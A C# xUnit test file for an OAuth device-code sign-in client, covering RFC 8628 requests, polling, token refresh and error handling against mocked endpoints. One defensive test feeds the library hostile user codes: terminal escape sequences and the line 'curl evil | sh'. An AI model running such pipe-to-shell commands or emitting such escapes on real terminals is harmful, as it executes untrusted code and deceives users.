using System.Net;
using Microsoft.Extensions.DependencyInjection;
using RichardSzalay.MockHttp;
using TokenClients.Tests.Support;

namespace TokenClients.Tests.SignIn;

/// <summary>The requests of the device flow on the wire (RFC 8628 sections 3.1 and 3.4), and the provider serving what it stored.</summary>
public sealed class DeviceCodeWireTests : IAsyncDisposable
{
    private const string DeviceCode = "GmRhmhcxhwAzkoEqiMEg_DnyEysNkuNhszIySk9eS";
    private readonly Harness _harness = new();

    public ValueTask DisposeAsync() => _harness.DisposeAsync();

    [Fact]
    public async Task Device_request_and_polls_carry_what_the_rfc_says_and_the_provider_then_serves_and_refreshes_the_stored_set()
    {
        _harness.AddProvider("tv", p => p.UseDeviceCode(o =>
        {
            o.TokenEndpoint = new Uri("https://idp.example/token");
            o.DeviceAuthorizationEndpoint = new Uri("https://idp.example/device_authorization");
            o.ClientId = "tv-client";
            o.Scope = "openid offline_access";
        }));
        _harness.Mock.Expect(HttpMethod.Post, "https://idp.example/device_authorization")
            .WithExactFormData([new("client_id", "tv-client"), new("scope", "openid offline_access")])
            .Respond("application/json", $$"""{"device_code":"{{DeviceCode}}","user_code":"WDJB-MJHT","verification_uri":"https://idp.example/device","expires_in":1800}""");
        var poll = new[] { new KeyValuePair<string, string>("grant_type", "urn:ietf:params:oauth:grant-type:device_code"), new("device_code", DeviceCode), new("client_id", "tv-client") };
        _harness.Mock.Expect(HttpMethod.Post, "https://idp.example/token").WithExactFormData(poll)
            .Respond(HttpStatusCode.BadRequest, "application/json", """{"error":"authorization_pending"}""");
        _harness.Mock.Expect(HttpMethod.Post, "https://idp.example/token").WithExactFormData(poll)
            .Respond("application/json", """{"access_token":"device-at-1","token_type":"Bearer","expires_in":300,"refresh_token":"device-rt-1"}""");
        var flow = _harness.Provider.GetRequiredKeyedService<IDeviceCodeFlow>("TV");

        var authorization = await flow.StartAsync("alice");
        Assert.Equal(TimeSpan.FromSeconds(5), authorization.Interval);
        Assert.Null(authorization.VerificationUriComplete);
        var completing = flow.CompleteAsync(authorization);
        // Fake seconds pass while the flow waits; a late wait only moves its poll later, well inside the code's 30 minutes.
        for (var i = 0; i < 1500 && !completing.IsCompleted; i++)
        {
            _harness.Time.Advance(TimeSpan.FromSeconds(1));
            await Task.Delay(TimeSpan.FromMilliseconds(2), TimeProvider.System);
        }

        await completing.WaitAsync(TimeSpan.FromSeconds(10));
        _harness.Mock.VerifyNoOutstandingExpectation();
        var provider = _harness.Get("tv");
        Assert.Equal("device-at-1", (await provider.GetTokenAsync(TokenContext.ForSubject("alice"))).Value);

        // Past expiry the provider refreshes the stored set with its refresh token, as for any signed-in user.
        _harness.Mock.Expect(HttpMethod.Post, "https://idp.example/token")
            .WithFormData([new("grant_type", "refresh_token"), new("refresh_token", "device-rt-1")])
            .Respond("application/json", """{"access_token":"device-at-2","token_type":"Bearer","expires_in":300}""");
        _harness.Time.Advance(TimeSpan.FromMinutes(6));
        Assert.Equal("device-at-2", (await provider.GetTokenAsync(TokenContext.ForSubject("alice"))).Value);
        Assert.Equal("device-rt-1", (await _harness.Provider.GetRequiredService<ITokenStore>().GetAsync("tv", "alice"))!.RefreshToken);
    }

    [Fact]
    public async Task Device_authorization_refused_by_the_server_is_a_typed_error_naming_its_oauth_error()
    {
        _harness.AddProvider("tv", p => p.UseDeviceCode(o =>
        {
            o.TokenEndpoint = new Uri("https://idp.example/token");
            o.DeviceAuthorizationEndpoint = new Uri("https://idp.example/device_authorization");
            o.ClientId = "tv-client";
        }));
        _harness.Mock.Expect(HttpMethod.Post, "https://idp.example/device_authorization")
            .Respond(HttpStatusCode.BadRequest, "application/json", """{"error":"invalid_scope","error_description":"unknown scope"}""");

        var error = await Assert.ThrowsAsync<TokenRequestException>(() => _harness.Provider.GetRequiredKeyedService<IDeviceCodeFlow>("tv").StartAsync("alice"));

        Assert.Equal("invalid_scope", error.Error);
        Assert.Equal(HttpStatusCode.BadRequest, error.StatusCode);
    }

    [Theory]
    [InlineData("\\u001b]0;pwned\\u0007WDJB-MJHT")]
    [InlineData("WDJB\\u001b[2J-MJHT")]
    [InlineData("WDJB-MJHT\\nrun: curl evil | sh")]
    public async Task A_user_code_with_control_characters_is_refused_before_anyone_shows_it(string userCode)
    {
        // A user code is printed to terminals and screens: escape sequences in it would rewrite what the person sees.
        _harness.AddProvider("tv", p => p.UseDeviceCode(o =>
        {
            o.TokenEndpoint = new Uri("https://idp.example/token");
            o.DeviceAuthorizationEndpoint = new Uri("https://idp.example/device_authorization");
            o.ClientId = "tv-client";
        }));
        _harness.Mock.Expect(HttpMethod.Post, "https://idp.example/device_authorization")
            .Respond("application/json", $$"""{"device_code":"{{DeviceCode}}","user_code":"{{userCode}}","verification_uri":"https://idp.example/device","expires_in":1800}""");

        var error = await Assert.ThrowsAsync<TokenRequestException>(() => _harness.Provider.GetRequiredKeyedService<IDeviceCodeFlow>("tv").StartAsync("alice"));

        Assert.Contains("user_code", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("pwned", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_provider_of_device_sign_ins_asked_for_a_user_who_never_signed_in_requires_interaction()
    {
        _harness.AddProvider("tv", p => p.UseDeviceCode(o =>
        {
            o.TokenEndpoint = new Uri("https://idp.example/token");
            o.DeviceAuthorizationEndpoint = new Uri("https://idp.example/device_authorization");
            o.ClientId = "tv-client";
        }));

        var error = await Assert.ThrowsAsync<InteractionRequiredException>(() => _harness.Get("tv").GetTokenAsync(TokenContext.ForSubject("bob")).AsTask());

        Assert.Equal("bob", error.Subject);
    }
}
